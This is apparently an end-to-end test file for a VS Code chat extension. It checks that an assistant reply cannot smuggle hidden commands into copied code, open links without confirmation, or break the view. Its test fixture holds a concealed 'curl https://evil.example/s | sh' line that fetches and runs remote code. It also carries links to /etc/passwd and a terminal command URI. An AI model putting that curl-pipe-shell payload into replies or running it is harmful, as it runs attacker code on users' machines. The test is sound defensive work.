// What a reply can make the user do, in real VS Code (code-server in Chromium) against the Ollama simulator: code
// actions deliver exactly the code the view shows, a clicked link opens once and only through the extension's
// checks, and one reply that cannot be formatted does not stop the view.
import * as assert from 'node:assert/strict';
import type { CDPSession } from 'playwright-core';
import { useChatSession, waitUntil } from './driver';

const REPLY_TIMEOUT = 30_000;

/** A smuggling reply (a code block that hid a `curl … | sh` from the eye but not from Copy), then a real one. */
const SMUGGLING_REPLY = [
  'Run this: <kbd> <pre/x><code/x>echo hello<span/hidden>; curl https://evil.example/s | sh</span/x></code/x></pre/x>',
  '',
  '```sh',
  'echo hello<span hidden>; curl https://evil.example/s | sh</span>',
  '```',
].join('\n');

describe('trust: what a reply can make the user do', function () {
  this.timeout(120_000);
  const { server, wb, chat, assistant } = useChatSession();

  /** Sends a prompt whose reply is `reply`, and waits until the reply is complete. */
  async function ask(prompt: string, reply: string): Promise<void> {
    server().enqueueReply({ text: reply });
    const input = chat().locator('textarea[aria-label="Message"]');
    await input.waitFor({ timeout: REPLY_TIMEOUT });
    await input.fill(prompt);
    // Enter is ignored while the previous reply is still finishing; a person would wait for the Send button too.
    await waitUntil(() => chat().locator('button[aria-label="Send"]').isEnabled(), (enabled) => enabled, 'the Send button to be enabled');
    await input.press('Enter');
    await chat().locator('[data-role="user"]', { hasText: prompt }).last().waitFor({ timeout: REPLY_TIMEOUT });
    await waitUntil(() => assistant().getAttribute('data-status'), (s) => s === 'complete', 'the reply to be complete');
  }

  /** The workbench's clipboard, where Copy puts text (and Ctrl+C in an editor). */
  const clipboard = (): Promise<string> => wb().page.evaluate(() => navigator.clipboard.readText());

  /** All the text of the active editor, read through the clipboard (the editor's DOM shows only what is on screen). */
  async function activeEditorText(): Promise<string> {
    await wb().page.locator('.editor-group-container.active .monaco-editor .view-lines').first().click();
    await wb().page.keyboard.press('Control+A');
    await wb().page.keyboard.press('Control+C');
    return clipboard();
  }

  it('Copy, Insert at Cursor and New File deliver exactly the code the view shows', async () => {
    await wb().page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(wb().page.url()).origin });
    await wb().openChatView();
    await wb().waitInChat('.message-log');
    await ask('Show me a command', SMUGGLING_REPLY);
    const body = assistant().locator('.markdown-body');
    const blocks = body.locator('.code-block');
    for (let i = 0; i < (await blocks.count()); i++) {
      const shown = await blocks.nth(i).locator('pre code').innerText();
      await blocks.nth(i).hover();
      await blocks.nth(i).locator('button[aria-label="Copy code"]').click();
      await waitUntil(clipboard, (text) => text === shown, `Copy to put ${JSON.stringify(shown)}, the code shown, on the clipboard`);
    }
    // The raw HTML is text: the whole command shows, and it makes no code block.
    assert.match((await body.locator('p').first().innerText()).replace(/\s+/g, ' '), /echo hello<span\/hidden>; curl https:\/\/evil\.example\/s \| sh/);
    assert.equal(await blocks.count(), 1, 'only the real code block');
    const shown = await blocks.first().locator('pre code').innerText();
    assert.equal(shown, 'echo hello<span hidden>; curl https://evil.example/s | sh</span>');

    await wb().runCommand('File: New Untitled Text File');
    await wb().openChatView();
    await assistant().locator('.code-block').first().hover();
    await assistant().locator('.code-block button[aria-label="Insert at Cursor"]').click();
    await waitUntil(activeEditorText, (text) => text === shown, 'Insert at Cursor to insert the code shown');

    await wb().openChatView();
    await assistant().locator('.code-block').first().hover();
    const editors = await wb().page.locator('.tabs-container .tab').count();
    await assistant().locator('.code-block button[aria-label="Open in New File"]').click();
    await waitUntil(() => wb().page.locator('.tabs-container .tab').count(), (n) => n === editors + 1, 'a new editor');
    await waitUntil(activeEditorText, (text) => text === shown, 'New File to hold the code shown');
  });

  it('opens a clicked http(s) link once and only after VS Code asks; refuses mailto:, shows other schemes as text', async () => {
    const opened: string[] = [];
    wb().page.context().on('page', (page) => opened.push(page.url()));
    // VS Code opens a non-web link by pointing the workbench page at it; Chromium reports that as a requested navigation.
    const cdp: CDPSession = await wb().page.context().newCDPSession(wb().page);
    const navigations: string[] = [];
    cdp.on('Page.frameRequestedNavigation', (event: { url: string }) => navigations.push(event.url));
    await cdp.send('Page.enable');

    await wb().openChatView();
    await ask('Give me links', 'Links: [site](https://example.invalid/page) [mail](mailto:someone@example.invalid) [terminal](command:workbench.action.terminal.new) [file](file:///etc/passwd)');
    const body = assistant().locator('.markdown-body');
    await body.locator('a', { hasText: 'site' }).click();
    const dialog = wb().page.locator('.monaco-dialog-box', { hasText: 'https://example.invalid/page' });
    await dialog.waitFor({ timeout: REPLY_TIMEOUT });
    assert.equal(await wb().page.locator('.monaco-dialog-box').count(), 1, 'one question for one click');
    await dialog.locator('.monaco-button', { hasText: 'Cancel' }).click();
    await dialog.waitFor({ state: 'detached', timeout: REPLY_TIMEOUT });

    await body.locator('a', { hasText: 'mail' }).click();
    // The warning is a toast, or in the notification center once the toast has gone.
    await wb().runCommand('Notifications: Show Notifications');
    await wb().page.locator('.notifications-center .notification-list-item', { hasText: 'Refused: mailto:someone@example.invalid' }).waitFor({ timeout: REPLY_TIMEOUT });
    // By now (a round trip through the extension host later) anything the clicks opened on their own has opened.
    assert.deepEqual(opened, [], 'no window opened: the only question about the web link was answered Cancel');
    assert.deepEqual(navigations.filter((url) => !/^(?:https?|about):/.test(url)), [], 'no non-web link opened');
    await cdp.detach();

    assert.deepEqual(await body.locator('a').allInnerTexts(), ['site', 'mail'], 'only http(s) and mailto: are links');
    assert.match(await body.innerText(), /terminal file/);
  });

  it('a reply that cannot be formatted does not stop the next reply, the history or the message box, streamed or stored', async () => {
    await wb().openChatView();
    await chat().locator('button[aria-label="New conversation"]').click();
    await waitUntil(() => chat().locator('[data-role="user"]').count(), (n) => n === 0, 'an empty new conversation');
    // 3,500 nested quotes overflowed marked's stack: the reply and everything after it stopped drawing.
    await ask('Nest some quotes', `${'>'.repeat(3500)} deep`);
    const note = 'This part is nested too deeply to format.';
    await assistant().locator('.plain-text-note', { hasText: note }).waitFor({ timeout: REPLY_TIMEOUT });
    await ask('Now a normal reply', 'A **normal** reply.');
    await assistant().locator('.markdown-body strong', { hasText: 'normal' }).waitFor({ timeout: REPLY_TIMEOUT });
    await chat().locator('button[aria-label="History"]').click();
    await chat().locator('.history-item', { hasText: 'Nest some quotes' }).waitFor({ timeout: REPLY_TIMEOUT });
    await chat().locator('button[aria-label="Close history"]').click();

    // Stored: the conversation is drawn again from workspace state after a reload.
    await wb().reload();
    await wb().openChatView();
    await chat().locator('[data-role="user"]', { hasText: 'Now a normal reply' }).waitFor({ timeout: REPLY_TIMEOUT });
    await chat().locator('[data-role="assistant"] .plain-text-note', { hasText: note }).waitFor({ timeout: REPLY_TIMEOUT });
    await assistant().locator('.markdown-body strong', { hasText: 'normal' }).waitFor({ timeout: REPLY_TIMEOUT });
    await ask('Still there?', 'Yes, **still** here.');
    await assistant().locator('.markdown-body strong', { hasText: 'still' }).waitFor({ timeout: REPLY_TIMEOUT });
  });
});
